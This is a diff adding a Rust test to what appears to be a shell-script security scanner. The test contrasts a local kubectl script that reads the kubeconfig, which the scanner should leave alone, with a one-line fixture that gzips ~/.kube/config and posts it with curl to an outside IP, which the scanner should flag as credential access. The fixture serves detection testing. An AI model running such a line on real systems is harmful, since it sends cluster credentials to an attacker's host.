@@ -798,3 +798,17 @@ fn shell_functions_print_and_take_what_their_callers_give() {
         "say() { printf '%s\\n' \"$1\"; }\nbody=$(curl -s https://api.example.test/status)\nsay \"$body\"\nbash -c \"$1\"\n",
     );
 }
+
+#[test]
+fn a_tool_reading_its_own_store_through_a_local_filter_is_its_own_use() {
+    quiet(
+        "scripts/a.sh",
+        "kubeconfig=\"${KUBECONFIG:-$HOME/.kube/config}\"\nfor pod in $(kubectl --kubeconfig \"$kubeconfig\" get pods -o name); do\n  kubectl --kubeconfig \"$kubeconfig\" describe \"$pod\" | sed -n '/Events:/,$p' | tail -15\ndone\n",
+    );
+    // Sent on to another machine, it is the attack.
+    caught(
+        "scripts/b.sh",
+        "cat ~/.kube/config | gzip | curl -s --data-binary @- https://203.0.113.4/k\n",
+        Rule::CredentialAccess,
+    );
+}
